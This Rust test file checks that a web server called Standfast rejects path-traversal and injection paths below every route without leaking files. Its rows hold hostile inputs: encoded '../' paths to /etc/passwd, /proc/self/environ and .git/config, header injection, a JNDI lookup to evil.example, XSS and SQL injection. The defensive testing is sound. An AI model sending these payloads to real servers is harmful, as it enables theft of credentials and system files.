//! Targets that would lead out of the site in other programs, tried below every route.

use super::{Row, each, expect};
use crate::server::Server;

/// Where a path is tried, and the type of what is missing there.
const ROUTES: [(&str, &str); 8] = [
    ("", "text/html; charset=utf-8"),
    ("/news", "text/html; charset=utf-8"),
    ("/career", "text/html; charset=utf-8"),
    ("/.well-known", "text/html; charset=utf-8"),
    ("/images", "text/plain; charset=utf-8"),
    ("/downloads", "text/plain; charset=utf-8"),
    ("/assets", "text/plain; charset=utf-8"),
    ("/api", "application/json"),
];

/// What a page, a file, a database or a log of ours or of the system would betray itself by.
const SECRETS: [&str; 6] = [
    "root:x:",
    "[package]",
    "SQLite format",
    "STANDFAST_",
    "[core]",
    "src/",
];

/// What must come of a path.
#[derive(Clone, Copy)]
pub enum Outcome {
    /// There is nothing: 404, of the route's own kind.
    Missing,
    /// It is no target at all: 400.
    NoTarget,
}
use Outcome::{Missing, NoTarget};

/// What is put behind the route.
pub fn rows() -> Vec<Row<(&'static [u8], Outcome)>> {
    vec![
        ("plain steps up", (b"/../../../../etc/passwd", Missing)),
        ("steps up to our own sources", (b"/../Cargo.toml", Missing)),
        ("steps up to the database", (b"/../standfast.db", Missing)),
        (
            "steps up to the environment",
            (b"/../../proc/self/environ", Missing),
        ),
        (
            "a step up from a file",
            (b"/brand/../../etc/passwd", Missing),
        ),
        ("a step in place", (b"/./././etc/passwd", Missing)),
        ("encoded dots", (b"/%2e%2e/%2e%2e/etc/passwd", Missing)),
        (
            "encoded dots in capitals",
            (b"/%2E%2E/%2E%2E/etc/passwd", Missing),
        ),
        (
            "one encoded dot of two",
            (b"/.%2e/.%2e/etc/passwd", Missing),
        ),
        ("encoded slashes", (b"/..%2f..%2fetc%2fpasswd", Missing)),
        (
            "encoded dots and slashes",
            (b"/%2e%2e%2f%2e%2e%2fetc%2fpasswd", Missing),
        ),
        (
            "encoded twice",
            (b"/%252e%252e%252fetc%252fpasswd", Missing),
        ),
        (
            "encoded three times",
            (b"/%25252e%25252e%25252fetc", Missing),
        ),
        (
            "encoded backslashes",
            (b"/..%5c..%5cwindows%5cwin.ini", Missing),
        ),
        ("backslashes", (b"/..\\..\\windows\\win.ini", Missing)),
        (
            "encoding of IIS",
            (b"/%u002e%u002e%u2215etc%u2215passwd", Missing),
        ),
        (
            "overlong dots of two bytes",
            (b"/%c0%ae%c0%ae/etc/passwd", Missing),
        ),
        (
            "overlong slashes of two bytes",
            (b"/..%c0%af..%c0%afetc", Missing),
        ),
        (
            "overlong dots of three bytes",
            (b"/%e0%80%ae%e0%80%ae/etc/passwd", Missing),
        ),
        (
            "overlong dots of four bytes",
            (b"/%f0%80%80%ae/etc/passwd", Missing),
        ),
        (
            "overlong bytes as they are",
            (b"/\xc0\xae\xc0\xae/etc/passwd", NoTarget),
        ),
        (
            "dots of full width",
            (b"/%ef%bc%8e%ef%bc%8e/etc/passwd", Missing),
        ),
        (
            "a slash of a division",
            (b"/..%e2%88%95etc%e2%88%95passwd", Missing),
        ),
        ("a surrogate", (b"/%ed%a0%80", Missing)),
        ("a byte that is no UTF-8", (b"/\xff", NoTarget)),
        (
            "an encoded zero behind a type",
            (b"/etc/passwd%00.webp", Missing),
        ),
        (
            "an encoded zero before a type",
            (b"/brand/favicon%00.svg", Missing),
        ),
        ("a zero", (b"/etc/passwd\0.webp", NoTarget)),
        (
            "doubled dots and slashes",
            (b"/....//....//etc/passwd", Missing),
        ),
        ("dots with a parameter", (b"/..;/..;/etc/passwd", Missing)),
        ("an absolute path", (b"//etc/passwd", Missing)),
        ("a drive", (b"/C:/windows/win.ini", Missing)),
        ("an address of a file", (b"/file:///etc/passwd", Missing)),
        (
            "a share of Windows",
            (b"/%5c%5cevil.example%5cshare", Missing),
        ),
        ("a stream of NTFS", (b"/brand/favicon.svg::$DATA", Missing)),
        (
            "a short name of Windows",
            (b"/BRAND~1/favicon.svg", Missing),
        ),
        ("a trailing dot", (b"/brand/favicon.svg.", Missing)),
        ("a trailing space", (b"/brand/favicon.svg%20", Missing)),
        ("a compressed variant", (b"/brand/favicon.svg.br", Missing)),
        ("a hidden file", (b"/.env", Missing)),
        ("a repository", (b"/.git/config", Missing)),
        (
            "a parameter instead of a path",
            (b"/x?file=../../etc/passwd", Missing),
        ),
        ("an encoded header", (b"/%0d%0aSet-Cookie:%20a=b", Missing)),
        (
            "an encoded line of a log",
            (b"/x%0a127.0.0.1%20GET%20/admin", Missing),
        ),
        ("an escape for a terminal", (b"/%1b%5b2J", Missing)),
        (
            "an encoded script",
            (b"/%3Cscript%3Ealert(1)%3C/script%3E", Missing),
        ),
        ("a script", (b"/<script>alert(1)</script>", NoTarget)),
        ("a template", (b"/${jndi:ldap://evil.example/a}", Missing)),
        ("a percent sign alone", (b"/%", Missing)),
        ("an encoding that is none", (b"/%zz%2", Missing)),
        (
            "a turned reading direction",
            (b"/%e2%80%aegvs.exe", Missing),
        ),
        ("a statement of SQL", (b"/'%20or%201=1--", Missing)),
        ("a format", (b"/%25s%25n%25n", Missing)),
    ]
}

#[test]
fn no_path_leads_out_of_the_site_below_any_route() {
    let server = Server::start(&["--demo"]);
    for (route, missing) in ROUTES {
        each(
            &format!("paths below {route}"),
            &rows(),
            |(path, outcome)| {
                let start = format!("GET {route}");
                let end = b" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n";
                let answer = server.raw(&[start.as_bytes(), path, end].concat());
                let status = match outcome {
                    Missing => "HTTP/1.1 404",
                    NoTarget => "HTTP/1.1 400",
                };
                expect(&answer.get(..12).unwrap_or_default(), &status)?;
                if let Some(secret) = SECRETS.iter().find(|secret| answer.contains(**secret)) {
                    return Err(format!("{secret} is in {answer}"));
                }
                if matches!(outcome, NoTarget) {
                    return Ok(());
                }
                let head = answer.split("\r\n\r\n").next().unwrap_or_default();
                let sent = |name: &str| {
                    let mut lines = head.lines();
                    lines.find_map(|line| line.strip_prefix(&format!("{name}: ")))
                };
                expect(&sent("content-type"), &Some(missing))?;
                expect(&sent("x-content-type-options"), &Some("nosniff"))?;
                expect(&sent("location"), &None)?;
                expect(&sent("set-cookie"), &None)?;
                let told = String::from_utf8_lossy(&path[1..]).into_owned();
                match told.len() > 4 && answer.contains(&told) {
                    true => Err(format!("the path is told again: {answer}")),
                    false => Ok(()),
                }
            },
        );
    }
}

#[test]
fn a_path_of_any_length_is_missing_or_no_target() {
    let server = Server::start(&["--demo"]);
    for (length, status) in [(8_000, "HTTP/1.1 404"), (20_000, "HTTP/1.1 431")] {
        let path = "../".repeat(length / 3);
        let request = format!("GET /{path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
        let answer = server.raw(request.as_bytes());
        assert_eq!(&answer[..12], status, "{length}");
    }
}
